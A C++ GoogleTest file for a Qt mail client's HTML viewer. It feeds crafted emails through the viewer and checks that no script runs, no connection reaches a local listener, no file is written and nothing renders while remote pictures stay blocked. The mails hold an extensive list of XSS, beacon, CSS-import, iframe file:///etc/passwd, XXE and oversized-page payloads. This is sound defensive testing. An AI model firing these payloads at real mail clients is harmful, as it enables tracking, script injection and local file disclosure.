#include <csignal>
#include <cstdlib>
#include <filesystem>
#include <memory>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <QColor>
#include <QLabel>
#include <QPageLayout>
#include <QPushButton>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTimer>
#include <QTreeView>
#include <QWebEnginePage>
#include <QWebEngineView>

#include "base/text.h"
#include "desktop/closed_page.h"
#include "tests/desktop/window_rig.h"

namespace keldane {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

std::string repeated(std::string_view text, std::size_t times) {
  std::string all;
  all.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) all += text;
  return all;
}

struct HostilePage {
  const char* name;  ///< subject of its mail
  std::string html;
};

/// Pages that reach out, run something or choke the reader, in every way known to us: HOST listens
/// and must never be asked. "Last words" stand at the end of each, "SCRIPT RAN" and "root:"
/// nowhere.
std::vector<HostilePage> hostilePages() {
  return {
      {"all that reaches out", R"p(<script src="http://HOST/script.js"></script><script type=module
src="http://HOST/module.js"></script><script>document.write('SCRIPT RAN');
fetch('http://HOST/fetch');new Image().src='http://HOST/image';new WebSocket('ws://HOST/socket');
navigator.sendBeacon('http://HOST/beacon');location='http://HOST/location'</script>
<a href="javascript:document.write('SCRIPT RAN')">link</a>
<body onload="document.body.innerHTML='SCRIPT RAN'">
<img src=x onerror="document.body.innerHTML='SCRIPT RAN';new Image().src='http://HOST/error'">
<input autofocus onfocus="location='http://HOST/focus'"><details open ontoggle="alert(1)">
<div style="animation:a 1ms" onanimationstart="document.body.innerHTML='SCRIPT RAN'"></div>
<style>@keyframes a{}</style><marquee onstart="document.body.innerHTML='SCRIPT RAN'">m</marquee>
<img src="http://HOST/pixel.png"><img srcset="http://HOST/set.png 2x">
<picture><source srcset="//HOST/source.png"><img></picture><img src="ftp://HOST/ftp.png">
<input type=image src="http://HOST/button.png"><table background="http://HOST/table.png">
<tr><td>x</table><video poster="http://HOST/poster.png" src="http://HOST/video" autoplay></video>
<audio src="http://HOST/audio" autoplay></audio><img lowsrc="http://HOST/low.png">
<link rel=stylesheet href="http://HOST/link.css">
<style>@import url(http://HOST/import.css);@font-face{font-family:x;src:url(http://HOST/font)}
body{font-family:x;background:url(http://HOST/background);cursor:url(http://HOST/cursor),auto}
li{list-style-image:url(http://HOST/list)}p::after{content:url(http://HOST/content)}</style>
<li style="background:image-set('http://HOST/image-set' 1x)">l
<base href="http://HOST/base/"><link rel=preconnect href="http://HOST">
<link rel=dns-prefetch href="//HOST"><link rel=prefetch href="http://HOST/prefetch">
<link rel=preload as=image href="http://HOST/preload"><link rel=icon href="http://HOST/icon">
<link rel=manifest href="http://HOST/manifest"><link rel=prerender href="http://HOST/prerender">
<svg><link xmlns="http://www.w3.org/1999/xhtml" rel=preconnect href="http://HOST"/></svg>
<img src=relative.png>
<iframe src="http://HOST/frame"></iframe><iframe src="file:///etc/passwd"></iframe>
<iframe srcdoc="<img src='http://HOST/srcdoc'><script>parent.document.write('SCRIPT RAN')</script>">
</iframe><iframe src="data:text/html,<img src=http://HOST/data>"></iframe><portal src="http://HOST/p">
</portal><object data="http://HOST/object"></object><embed src="http://HOST/embed"><applet
code="http://HOST/applet"></applet><frameset><frame src="http://HOST/frameset"></frameset>
<form action="http://HOST/form" method=post><input name=a value=b>
<button>send</button></form>
<meta http-equiv=refresh content="0;url=http://HOST/refresh"><META
HTTP-EQUIV="Refresh" CONTENT="0;URL='file:///etc/passwd'"><meta http-equiv=Set-Cookie content=a=b>
<script>window.open('http://HOST/open')</script><a target=_blank
href="http://HOST/blank" ping="http://HOST/ping">open</a>
<img src="file:///etc/passwd"><a href="file:///etc/passwd">file</a>
<a href="data:text/html,<script>document.write('SCRIPT RAN')</script>">data</a>
<a download="owned.sh" href="data:application/x-sh,echo">get</a>
<svg onload="document.body.innerHTML='SCRIPT RAN'"><script>
document.write('SCRIPT RAN')</script><image href="http://HOST/svg.png"/><use href="http://HOST/u#x"/>
<foreignObject><iframe src="http://HOST/foreign"/></foreignObject><style>@import url(http://HOST/s)
</style><animate onbegin="alert(1)"/><set attributeName=href to="http://HOST/set"/></svg>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>
<image href='http://HOST/data.png'/></svg>"><math><mi xlink:href="javascript:alert(1)">m</mi></math>
<img src="cid:drawing"><img src="cid:page"><img src="cid:none">
<iframe src="cid:page"></iframe><link rel=stylesheet href="cid:page"><img src="CID:../../etc/passwd">)p"},
      {"what reaches out by rarer ways",
       R"p(<?xml-stylesheet type="text/xsl" href="http://HOST/xsl"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;<html manifest="http://HOST/cache">
<body background="http://HOST/body.png" onpageshow="document.body.innerHTML='SCRIPT RAN'">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://HOST/rules"]}]}</script>
<script>const peer=new RTCPeerConnection({iceServers:[{urls:'turn:HOST?transport=tcp',username:'a',
credential:'b'}]});peer.createDataChannel('a');peer.createOffer().then(o=>peer.setLocalDescription(o));
new EventSource('http://HOST/events');import('http://HOST/import.js');new Worker('http://HOST/work');
document.forms[0].submit()</script><noscript><img src="http://HOST/noscript.png">
<iframe src="http://HOST/noscript"></iframe><style>@import url(http://HOST/noscript.css);</style>
<link rel=stylesheet href="http://HOST/noscript"></noscript><template shadowrootmode=open>
<img src="http://HOST/shadow.png"></template><img loading=lazy src="http://a:b@HOST/user.png">
<img attributionsrc="http://HOST/source" src="http://HOST/crossed.png" crossorigin=use-credentials>
<meta http-equiv=Link content="<http://HOST/hint>; rel=preload; as=image"><meta
http-equiv=Content-Security-Policy content="default-src * 'unsafe-inline'; report-uri http://HOST/r">
<meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=refresh content="0;mailto:a@b">
<link rel=modulepreload href="http://HOST/module"><link rel="alternate stylesheet" title=a
href="http://HOST/other.css"><link rel=preload as=font crossorigin href="http://HOST/preload.woff">
<link rel=preload as=fetch href="http://HOST/preload"><link rel=import href="http://HOST/import">
<link rel=stylesheet href="data:text/css,@import url(http://HOST/data.css);">
<svg><style>rect{fill:url(http://HOST/fill.svg#a);filter:url(http://HOST/filter.svg#a)}</style>
<rect width=9 height=9 mask="url(http://HOST/mask.svg#a)" clip-path="url(http://HOST/clip.svg#a)"/>
<filter id=f><feImage href="http://HOST/fe.png"/></filter><rect filter="url(#f)" width=9 height=9 />
<linearGradient href="http://HOST/gradient.svg#a"/><textPath href="http://HOST/path.svg#a">t</textPath>
<script href="http://HOST/svg.js"/><image xlink:href="http://HOST/linked.png"/></svg>
<style>@\69mport 'http://HOST/escaped.css';@import 'cid:page';@font-face{font-family:y;
src:local(none),u\72l(http://HOST/escaped) format('woff')}@namespace url(http://HOST/names);
q{font-family:y;mask-image:url(http://HOST/masks);border-image:url(http://HOST/border) 9;
shape-outside:url(http://HOST/shape);offset-path:url(http://HOST/offset.svg#a);
-webkit-box-reflect:below 1px url(http://HOST/reflect)}</style><q
style="@font-face{font-family:z;src:url(http://HOST/inline)};backdrop-filter:url(http://HOST/b.svg#a)">q</q>
<object type="text/html" data="data:text/html,<script src=http://HOST/object.js></script>"></object>
<object type="image/svg+xml" data="cid:drawing"></object><embed type="application/pdf"
src="http://HOST/embed.pdf"><embed src="data:application/pdf,%25PDF"><object
classid="http://HOST/class" codebase="http://HOST/base"></object><object data="cid:page"></object>
<iframe src="javascript:document.write('SCRIPT RAN')"></iframe><iframe src="mailto:a@b"></iframe>
<iframe src="keldane-mail:message/1"></iframe><img src="keldane-mail:message/1"><iframe
src="view-source:file:///etc/passwd"></iframe><iframe src="chrome://gpu"></iframe>
<iframe src="qrc:/a"></iframe><iframe src="tel:1"></iframe><fencedframe src="http://HOST/fenced">
</fencedframe><video><source src="http://HOST/source.mp4"><track default src="http://HOST/track.vtt">
</video><audio controls src="data:audio/wav,"></audio><bgsound src="http://HOST/sound">
<form action="http://HOST/auto"><input type=image src="http://HOST/input.png"
formaction="http://HOST/other"><input type=file><keygen><isindex action="http://HOST/index"></form>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse=text />
<math href="http://HOST/math"><maction actiontype="statusline#a" href="http://HOST/action">m</maction>
</math><xml src="http://HOST/island"></xml><img dynsrc="http://HOST/dynamic">)p"},
      {"deep nesting", repeated("<div><table><tr><td>", 20'000)},
      {"a huge table", "<table>" + repeated("<tr><td colspan=65534 rowspan=65534>x", 3'000) +
                           "<tr>" + repeated("<td>", 20'000) + "</table>"},
      {"huge drawings", R"p(<svg width=99999999 height=99999999><rect width=100% height=100%
filter="blur(999px)"/></svg><div style="width:99999999px;filter:blur(999px)">x</div>)p"},
      {"broken markup", repeated("<!--", 1'000) + "-->" + repeated("&#x110000;<a href='", 999) +
                            "'>" + repeated("<b <i </", 1'000)},
      {"fifty megabytes", repeated("<p>" + std::string(5'000, 'x') + "\n", 10'000)},
  };
}

/// The mail of a page, with the drawing and the page that a message brings along for its "cid:"
/// links.
std::string mailOf(const HostilePage& page, const std::string& host) {
  std::string html = "<html><body><p>First words</p>" + page.html;
  replaceAll(html, "HOST", host);
  const std::string drawing =
      "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9000' onload='alert(1)'><image "
      "href='http://" +
      host + "/cid.png'/><script>document.write('SCRIPT RAN')</script></svg>";
  const auto part = [](const char* type, const char* id, const std::string& body) {
    return "--b\nContent-Type: " + std::string(type) + "\nContent-ID: <" + id + ">\n\n" + body +
           "\n";
  };
  return "From: eve@example.org\nTo: bo@club.example\nSubject: " + std::string(page.name) +
         "\nDate: Sat, 15 Jan 2022 09:30:00 +0000\nMIME-Version: 1.0\n"
         "Content-Type: multipart/related; boundary=b\n\n" +
         part("text/html; charset=utf-8", "top",
              html + "<p>Last words: " + page.name + "</p></body></html>") +
         part("image/svg+xml", "drawing", drawing) +
         part("text/html", "page", "<script>document.write('SCRIPT RAN')</script>") + "--b--\n";
}

/// Counts who connects.
class Listener {
 public:
  Listener() {
    EXPECT_TRUE(server_.listen(QHostAddress::LocalHost));
    QObject::connect(&server_, &QTcpServer::newConnection, [this] {
      while (QTcpSocket* socket = server_.nextPendingConnection()) {
        ++connections;
        socket->disconnectFromHost();
      }
    });
  }
  [[nodiscard]] std::string host() const {
    return "127.0.0.1:" + std::to_string(server_.serverPort());
  }
  int connections = 0;

 private:
  QTcpServer server_;
};

/// Every file below the folders, but those of the server, which writes by itself.
std::set<std::string> filesBelow(const std::vector<std::string>& folders) {
  namespace fs = std::filesystem;
  std::set<std::string> files;
  for (const std::string& folder : folders) {
    constexpr auto kSkip = fs::directory_options::skip_permission_denied;
    for (auto entry = fs::recursive_directory_iterator(folder, kSkip);
         entry != fs::recursive_directory_iterator(); ++entry) {
      if (entry->path().filename() == "Server") entry.disable_recursion_pending();
      if (!entry->is_directory()) files.insert(entry->path());
    }
  }
  return files;
}

int shownWindows() {
  int shown = 0;
  for (const QWidget* top : QApplication::topLevelWidgets()) shown += top->isVisible() ? 1 : 0;
  return shown;
}

class HtmlOfAMessage : public ::testing::Test {
 protected:
  HtmlOfAMessage() {
    rig.folder.write("tmp/ours", "");
    ::setenv("TMPDIR", (rig.folder / "tmp").c_str(), 1);
    std::filesystem::remove(rig.folder / "tmp/ours");
  }
  ~HtmlOfAMessage() override { ::unsetenv("TMPDIR"); }

  QWebEngineView& view() { return rig.control<QWebEngineView>("myHtmlWebView"); }
  bool saysWhyNot() { return rig.control<QLabel>("htmlProblem").isVisible(); }
  /// Waits until the page of this subject is shown, or why it is not, and answers its text.
  std::string textOfPage(const std::string& subject) {
    const std::string last = "Last words: " + subject;
    EXPECT_TRUE(WindowRig::waitFor([&] {
      return text_->find(last) != std::string::npos || saysWhyNot();
    })) << text_->substr(0, 200);
    return *text_;
  }
  void archive(const std::vector<HostilePage>& pages, const std::string& host) {
    int number = 0;
    for (const HostilePage& page : pages) {
      rig.folder.write("mail/" + std::to_string(++number) + ".eml", mailOf(page, host));
    }
    rig.start();
    rig.archive(rig.folder / "mail");
  }
  /// Selects the message of this subject.
  void select(const std::string& subject) {
    const QAbstractItemModel& rows = *rig.control<QTreeView>("storeTableView").model();
    for (int row = 0; row < rows.rowCount(); ++row) {
      if (rows.index(row, 3).data().toString().toStdString() != subject) continue;
      rig.selectRow(row);
      // A question that is on its way when a page goes is never answered.
      if (*text_ == "none") {
        QObject::connect(view().page(), &QWebEnginePage::loadFinished, [this] {
          view().page()->toPlainText(
              [text = text_](const QString& plain) { *text = plain.toStdString(); });
        });
      }
      text_->clear();
      return;
    }
    FAIL() << subject;
  }

  WindowRig rig;

 private:
  std::shared_ptr<std::string> text_ = std::make_shared<std::string>("none");
};

TEST_F(HtmlOfAMessage, ReachesNobodyRunsNothingAndWritesNoFile) {
  Listener listener;
  const std::vector<HostilePage> pages = hostilePages();
  archive(pages, listener.host());
  const std::vector<std::string> places = {rig.folder.path()};
  std::set<std::string> before;
  for (const HostilePage& page : pages) {
    SCOPED_TRACE(page.name);
    select(page.name);
    const std::string text = textOfPage(page.name);
    EXPECT_TRUE(saysWhyNot() || text.find("First words") != std::string::npos)
        << text.substr(0, 99);
    EXPECT_THAT(text, Not(HasSubstr("SCRIPT RAN")));
    EXPECT_THAT(text, Not(HasSubstr("root:")));
    EXPECT_EQ(view().page()->url().scheme(), "keldane-mail");
    // What the engine makes when it starts is there with the first page.
    if (before.empty()) before = filesBelow(places);
  }
  EXPECT_EQ(filesBelow(places), before);
  EXPECT_EQ(shownWindows(), 1);
  EXPECT_EQ(listener.connections, 0);

  // The listener would have seen them: with leave of the user the pictures come, and only now.
  select("all that reaches out");
  (void)textOfPage("all that reaches out");
  auto& bar = rig.control<QWidget>("remotePicturesBar");
  ASSERT_TRUE(WindowRig::waitFor([&] { return bar.isVisible(); }));
  EXPECT_EQ(listener.connections, 0);
  rig.click("loadRemotePicturesButton");
  EXPECT_TRUE(WindowRig::waitFor([&] { return listener.connections > 0; }));
}

TEST(ClosedPage, StaysUntilTheEngineHasNothingToGiveItWhenTheProgramEnds) {
  for (const bool isBegun : {false, true}) {
    SCOPED_TRACE(isBegun ? "while the page is laid out" : "when the page has come");
    auto closed = std::make_unique<ClosedPage>(nullptr);
    QWebEnginePage& page = closed->page();
    page.setVisible(true);
    closed->load("<p>Words", {}, Qt::white, false);
    QByteArray pdf;
    QTimer::singleShot(0, [&] {
      QTimer::singleShot(0, [&] {
        QObject::connect(&page, &QWebEnginePage::loadFinished, [&] {
          if (!isBegun) return QCoreApplication::exit();
          page.toPlainText([](const QString&) { QCoreApplication::exit(); });
        });
      });
      pdf = closed->layOut({QPageSize(QPageSize::A4), QPageLayout::Portrait, {}});
      closed.reset();
    });
    QCoreApplication::exec();
    EXPECT_EQ(pdf.startsWith("%PDF"), isBegun);
    EXPECT_EQ(closed, nullptr);
  }
}

TEST_F(HtmlOfAMessage, HasThePicturesThatCameWithIt) {
  archive({{"drawing", "<img src=\"cid:drawing\">"}}, "127.0.0.1:9");
  select("drawing");
  (void)textOfPage("drawing");
  EXPECT_TRUE(WindowRig::waitFor([&] { return view().page()->contentsSize().height() > 9000; }));
}

TEST_F(HtmlOfAMessage, WhoseProcessDiesIsASentenceAndTheNextOneIsShown) {
  archive({{"one", "one"}, {"two", "two"}}, "127.0.0.1:9");
  select("one");
  (void)textOfPage("one");
  const qint64 process = view().page()->renderProcessPid();
  ASSERT_GT(process, 0);
  ::kill(static_cast<pid_t>(process), SIGKILL);
  ASSERT_TRUE(WindowRig::waitFor([&] { return saysWhyNot(); }));
  EXPECT_TRUE(rig.control<QLabel>("htmlProblem").text().startsWith("This message could not be"));
  select("two");
  EXPECT_THAT(textOfPage("two"), HasSubstr("First words"));
  EXPECT_FALSE(saysWhyNot());
}

}  // namespace
}  // namespace keldane
